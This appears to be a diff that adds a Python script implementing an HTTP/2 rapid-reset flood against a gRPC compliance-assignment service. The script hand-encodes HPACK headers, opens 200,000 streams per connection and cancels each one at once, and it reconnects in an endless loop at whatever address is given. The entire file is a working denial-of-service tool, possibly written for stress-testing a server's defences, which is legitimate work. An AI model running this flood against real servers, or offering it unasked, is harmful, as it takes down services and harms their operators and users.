@@ -1,0 +1,66 @@
+"""Opens streams and resets them without end, at the address that is given: `python reset_flood.py 127.0.0.1:50051`."""
+
+import contextlib
+import socket
+import struct
+import sys
+import threading
+import time
+
+PATH = b"/compliance_gateway.v1.ComplianceAssignmentService/ListComplianceAssignments"
+DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
+END_HEADERS, END_STREAM, ACK = 4, 1, 1
+STREAMS, PIECE = 200_000, 1 << 20
+CANCEL = struct.pack(">I", 8)
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(index: bytes, value: bytes) -> bytes:
+    """A header field by its name's place in HPACK's static table (RFC 7541, appendix A), or its new name."""
+    return index + bytes([len(value)]) + value
+
+
+BLOCK = b"\x83\x86" + literal(b"\x04", PATH) + literal(b"\x01", b"x") + literal(b"\x0f\x10", b"application/grpc")
+BLOCK += literal(b"\x00\x02te", b"trailers")
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
+
+
+MESSAGE = bytes(5)
+
+
+def resets(streams: int) -> bytes:
+    """So many, each opened and reset."""
+    return b"".join(
+        frame(HEADERS, END_HEADERS, n, BLOCK) + frame(DATA, END_STREAM, n, MESSAGE) + frame(RESET, 0, n, CANCEL)
+        for n in range(1, 2 * streams, 2)
+    )
+
+
+def drain(one: socket.socket) -> None:
+    """A server stops reading from who does not read its answers."""
+    with contextlib.suppress(OSError):
+        while one.recv(1 << 16):
+            pass
+
+
+def flood(address: str) -> None:
+    """Comes again as soon as it is thrown out or through. Says so whenever more streams are on their way."""
+    host, port = address.split(":")
+    data = resets(STREAMS)
+    while True:
+        try:
+            with socket.create_connection((host, int(port))) as one:
+                threading.Thread(target=drain, args=[one], daemon=True).start()
+                one.sendall(PREFACE)
+                for start in range(0, len(data), PIECE):
+                    one.sendall(data[start : start + PIECE])
+                    print("more", flush=True)
+        except OSError:
+            time.sleep(0.01)
+
+
+if __name__ == "__main__":
+    flood(sys.argv[1])
